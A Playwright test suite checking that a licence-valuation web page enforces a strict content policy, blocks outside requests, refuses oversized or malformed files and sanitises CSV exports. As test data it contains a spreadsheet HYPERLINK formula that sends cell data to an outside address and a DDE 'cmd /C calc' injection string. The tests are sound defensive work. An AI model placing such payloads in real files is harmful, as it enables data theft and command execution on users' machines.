// Nothing is let in: texts, files and code from outside, and nothing goes out.
import { expect, test } from "@playwright/test";
import { field, figures, fileNotice, foundOut, give, open, openDetails, problem, save, type } from "./page.mjs";

const policy = async (page) =>
  Object.fromEntries(
    (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content"))
      .split("; ")
      .map((directive) => [directive.split(" ")[0], directive.split(" ").slice(1)]),
  );

/** Puts a text into a field as a paste does, however long it is. */
const paste = (page, path, text, times = 1) =>
  field(page, path).evaluate(
    (input, [text, times]) => {
      input.focus();
      input.value = text.repeat(times);
      input.dispatchEvent(new InputEvent("input", { bubbles: true }));
    },
    [text, times],
  );

/** Saves a table as CSV and gives name and bytes of the file. */
async function csv(page, button) {
  const [download] = await Promise.all([page.waitForEvent("download"), button.click()]);
  const chunks = [];
  for await (const chunk of await download.createReadStream()) chunks.push(chunk);
  return { name: download.suggestedFilename(), text: Buffer.concat(chunks).toString("utf8") };
}

/** The cells of CSV, read by the rules of RFC 4180. */
function cells(text, separator) {
  const rows = [[""]];
  let within = false;
  for (let at = 1; at < text.length; at += 1) {
    const letter = text[at];
    const row = rows.at(-1);
    if (letter === '"' && within && text[at + 1] === '"') {
      row[row.length - 1] += '"';
      at += 1;
    } else if (letter === '"') within = !within;
    else if (within) row[row.length - 1] += letter;
    else if (letter === separator) row.push("");
    else if (letter === "\r" && text[at + 1] === "\n") {
      rows.push([""]);
      at += 1;
    } else row[row.length - 1] += letter;
  }
  return rows.slice(0, -1);
}

test("the built page has the strict policy", async ({ page }) => {
  await page.goto("./");
  expect(await policy(page)).toEqual({
    "default-src": ["'none'"],
    "script-src": ["'self'", "'wasm-unsafe-eval'"],
    "style-src": ["'self'"],
    "img-src": ["'self'", "data:", "blob:"],
    "font-src": ["'self'"],
    "connect-src": ["'self'"],
    "worker-src": ["'self'"],
    "manifest-src": ["'self'"],
    "base-uri": ["'none'"],
    "form-action": ["'none'"],
    "require-trusted-types-for": ["'script'"],
    "trusted-types": ["default"],
  });
  await expect(page.locator('meta[name="referrer"]')).toHaveAttribute("content", "no-referrer");
});

test("code from outside does not run and nothing is fetched from elsewhere", async ({ page }) => {
  await open(page);
  const outcome = await page.evaluate(async () => {
    const refused = async (action) => {
      // In a task of the page's own: what runs inside of the tester's call may evaluate code.
      await new Promise((later) => setTimeout(later));
      try {
        await action();
        return "allowed";
      } catch (fault) {
        return fault.name;
      }
    };
    const loads = (element, name, address) =>
      new Promise((told) => {
        element.onload = () => told("allowed");
        element.onerror = () => told("blocked");
        element[name] = address;
        document.body.append(element);
        setTimeout(() => told("nothing"), 3000);
      });
    const violations = [];
    document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
    const parsed = new DOMParser();
    const results = {
      eval: await refused(() => eval("1")),
      function: await refused(() => new Function("return 1")()),
      timer: await refused(() => setTimeout("globalThis.ran = true", 0)),
      html: await refused(() => document.body.insertAdjacentHTML("beforeend", "<p>in</p>")),
      write: await refused(() => document.write("<p>in</p>")),
      parse: await refused(() => parsed.parseFromString("<p>in</p>", "text/html")),
      handler: await refused(() => document.body.setAttribute("onclick", "globalThis.ran = true")),
      inline: await refused(() => {
        const script = document.createElement("script");
        script.append("globalThis.ran = true");
        document.body.append(script);
      }),
      script: await refused(() => (document.createElement("script").src = "http://127.0.0.2/a.js")),
      dataModule: await refused(() => import("data:text/javascript,globalThis.ran = true")),
      blobWorker: await refused(() => new Worker(URL.createObjectURL(new Blob(["0"], { type: "text/javascript" })))),
      fetch: await refused(() => fetch("http://127.0.0.2/")),
      socket: await refused(
        () => new Promise((_, failed) => {
          const socket = new WebSocket("ws://127.0.0.2/");
          socket.onerror = () => failed(new TypeError("blocked"));
        }),
      ),
      image: await loads(document.createElement("img"), "src", "http://127.0.0.2/a.png"),
      policy: await refused(() => trustedTypes.createPolicy("another", {})),
    };
    const frame = document.createElement("iframe");
    frame.src = "data:text/html,<p>in</p>";
    document.body.append(frame);
    const form = document.createElement("form");
    form.action = "http://127.0.0.2/";
    document.body.append(form);
    form.submit();
    await new Promise((later) => setTimeout(later, 500));
    const paragraphs = [...document.querySelectorAll("body > p")].filter((one) => one.textContent === "in").length;
    return { results, ran: globalThis.ran, violations, paragraphs };
  });
  for (const [what, how] of Object.entries(outcome.results)) {
    // What the policy stops without throwing is stopped all the same: nothing ran.
    if (what !== "inline") expect(how, what).not.toBe("allowed");
    expect(how, what).not.toBe("nothing");
  }
  expect(outcome.ran).toBeUndefined();
  for (const directive of ["connect-src", "img-src", "form-action"]) expect(outcome.violations, directive).toContain(directive);
  expect(outcome.violations.some((directive) => directive.startsWith("frame-src"))).toBe(true);
  expect(outcome.paragraphs).toBe(0);
});

test("no request leaves the page's host on a whole tour", async ({ page, context, baseURL }) => {
  test.setTimeout(300_000);
  const strayed = [];
  context.on("request", (request) => {
    const address = request.url();
    if (!address.startsWith(baseURL) && !/^(data|blob):/.test(address)) strayed.push(address);
  });
  const complaints = [];
  page.on("console", (message) => message.type() === "error" && complaints.push(message.text()));
  for (const language of ["vi", "en"]) {
    await open(page, language);
    for (const route of ["#/quick", "#/examples", "#/methods", "#/methods/relief_from_royalty", "#/terms", "#/sources", "#/"]) {
      await page.goto(`./${route}`);
      await expect(page.getByRole("heading", { level: 1 }).first()).toBeVisible();
      await openDetails(page);
    }
    await foundOut(page);
    await openDetails(page);
    for (const name of ["SVG", "PNG", "CSV"]) {
      const buttons = page.locator(".save-picture button", { hasText: name });
      await expect(buttons.first()).toBeVisible();
      for (const button of (await buttons.all()).slice(0, 4)) {
        await Promise.all([page.waitForEvent("download"), button.click()]);
      }
    }
    await save(page, language);
  }
  // Without a range there is nothing to draw.
  await type(page, "licence.royalty_rate", "3 – 5 – 8");
  await field(page, "licence.royalty_rate").blur();
  await page.locator("#simulation-start").click();
  await expect(page.locator("#simulation-state")).toContainText("futures drawn", { timeout: 200_000 });
  await csv(page, page.locator(".simulation .save-picture button", { hasText: "CSV" }).last());
  expect(strayed).toEqual([]);
  expect(complaints).toEqual([]);
});

for (const language of ["vi", "en"]) {
  test(`a file of 300 MB is refused and not read (${language})`, async ({ page }) => {
    await open(page, language);
    await type(page, "licence.royalty_rate", "7");
    const size = await page.locator("input[type=file]").evaluate((input) => {
      globalThis.reads = 0;
      for (const name of ["readAsArrayBuffer", "readAsText", "readAsDataURL"]) {
        const own = FileReader.prototype[name];
        FileReader.prototype[name] = function (...given) {
          globalThis.reads += 1;
          return own.apply(this, given);
        };
      }
      const given = new DataTransfer();
      given.items.add(new File(Array(300).fill(new Uint8Array(1_000_000)), "big.labworth.json"));
      const { size } = given.files[0];
      input.files = given.files;
      input.dispatchEvent(new Event("change", { bubbles: true }));
      return size;
    });
    expect(size).toBe(300_000_000);
    const status = fileNotice(page);
    await expect(status).toContainText("big.labworth.json");
    await expect(status).toContainText(/\d MB|\d MiB/);
    expect(await page.evaluate(() => globalThis.reads)).toBe(0);
    await expect(field(page, "licence.royalty_rate")).toHaveValue("7");
  });

  test(`a hostile project file is refused with a sentence (${language})`, async ({ page }) => {
    test.setTimeout(180_000);
    await open(page, language);
    const shown = await figures(page);
    const project = (inputs, more = "") => `{"labworth":"project","format":1,"inputs":{${inputs}}${more}}`;
    const keys = (count, key) => Array.from({ length: count }, (_, at) => key(at)).join(",");
    const files = {
      deep: project("", `,"later":${"[".repeat(500_000)}${"]".repeat(500_000)}`),
      keys: project("", `,${keys(400_000, (at) => `"${at}":0`)}`),
      inputs: project(keys(100_000, (at) => `"x.${at}":{}`)),
      row: project('"inventors.999999.name":{"value":"A"}'),
      title: project(`"project.title":{"value":"${"a".repeat(100_000)}"}`),
      twice: project('"licence.upfront":{"value":"1"},"licence.upfront":{"value":"2"}'),
      endless: '{"labworth":"project","format":1e999999999,"inputs":{}}',
      // 40 kB that would be 5 MB when they are saved, and numbers of eighty letters that are multiplied with each other.
      indented: project("", `,"later":${"[".repeat(120)}${keys(20_000, () => "0")}${"]".repeat(120)}`),
      digits: project(
        `${keys(200, (at) => `"inventors.${at}.weight":{"value":"0.${"7".repeat(78)}"}`)},${keys(51, (at) => `"road.stages.${at}.cost":{"value":"${"7".repeat(80)}"}`)}`,
      ),
    };
    for (const [kind, content] of Object.entries(files)) {
      const name = `${kind}.labworth.json`;
      await give(page, name, content);
      await expect(fileNotice(page), kind).toContainText(name);
      expect((await fileNotice(page).innerText()).length, kind).toBeGreaterThan(name.length + 20);
    }
    expect(await figures(page)).toEqual(shown);
  });

  test(`a text that no field holds is told at the field and what stood there stays (${language})`, async ({ page }) => {
    await open(page, language);
    await openDetails(page);
    const million = language === "vi" ? "1.000.000" : "1,000,000";
    for (const path of ["licence.upfront", "inventors.0.name"]) {
      const before = await field(page, path).inputValue();
      expect(before).not.toBe("");
      await paste(page, path, "9", 1_000_000);
      await expect(problem(page, path)).toContainText(million);
      await expect(problem(page, path)).toContainText(language === "vi" ? "4.000" : "4,000");
      await expect(field(page, path)).toHaveValue(before);
      await paste(page, path, before, 1);
      await expect(problem(page, path)).toBeEmpty();
    }
  });

  test(`a number whose evaluation would take for ever is refused at its field (${language})`, async ({ page }) => {
    await open(page, language);
    await openDetails(page);
    for (const [path, text] of [
      ["licence.term_years", "1000000"],
      ["licence.term_years", "-3"],
      ["licence.upfront", "1e999999999"],
      ["licence.upfront", "9".repeat(3_000)],
      ["licence.royalty_rate", "1e400"],
      ["licence.royalty_rate", "NaN"],
      ["valuation.discount_rate", "Infinity"],
    ]) {
      const before = await field(page, path).inputValue();
      await paste(page, path, text);
      await field(page, path).blur();
      await expect(problem(page, path), `${path} ${text.slice(0, 20)}`).not.toBeEmpty();
      await expect(field(page, path)).toHaveValue(text);
      await paste(page, path, before);
      await field(page, path).blur();
      await expect(problem(page, path)).toBeEmpty();
    }
  });

  test(`a table is saved as CSV with numbers as numbers and no formula (${language})`, async ({ page }) => {
    await open(page, language);
    await openDetails(page);
    const hostile = '=HYPERLINK("http://127.0.0.2/?"&A1;"x")';
    await paste(page, "inventors.0.name", hostile);
    await paste(page, "project.title", "@SUM(1+1)*cmd|' /C calc'!A0");
    const [separator, decimal] = language === "vi" ? [";", ","] : [",", "."];
    const names = new Set();
    let figuresSeen = 0;
    let guarded = 0;
    await foundOut(page);
    await openDetails(page);
    const buttons = page.locator(".save-picture button", { hasText: "CSV" });
    const count = await buttons.count();
    expect(count).toBeGreaterThanOrEqual(6);
    for (let at = 0; at < count; at += 1) {
      const { name, text } = await csv(page, buttons.nth(at));
      names.add(name);
      expect(name).toMatch(/^[a-z0-9-]+\.csv$/);
      expect(text.codePointAt(0)).toBe(0xfeff);
      const rows = cells(text, separator);
      expect(rows.length, name).toBeGreaterThan(1);
      for (const cell of rows.flat()) {
        if (/^-?\d+([.,]\d+)?$/.test(cell)) {
          if (/[.,]/.test(cell)) expect(cell, name).toContain(decimal);
          figuresSeen += 1;
        } else {
          expect(cell, name).not.toMatch(/^[=+\-@\t\r\n]/);
        }
        if (cell.startsWith(`'${hostile}`)) guarded += 1;
      }
    }
    expect(names.size).toBeGreaterThanOrEqual(6);
    expect(figuresSeen).toBeGreaterThan(100);
    expect(guarded).toBeGreaterThan(0);
  });
}

test.describe("what the network sends", () => {
  // The service worker would answer from what it keeps.
  test.use({ serviceWorkers: "block" });

  test("cards that are none, broken or too large are told and the page goes on", async ({ page }) => {
    for (const body of ["<!doctype html><p>404</p>", "[".repeat(100_000), `{"a":"${"x".repeat(3_000_000)}"}`]) {
      await page.route(/cards-en-[0-9a-f]+\.json/, (route) => route.fulfill({ status: 200, contentType: "application/json", body }));
      await open(page);
      await page.goto("./#/methods");
      await expect(page.locator("main")).toContainText("could not be loaded");
      await page.goto("./#/");
      expect((await figures(page)).length).toBeGreaterThan(80);
      await page.unroute(/cards-en-[0-9a-f]+\.json/);
      await page.reload();
    }
  });
});
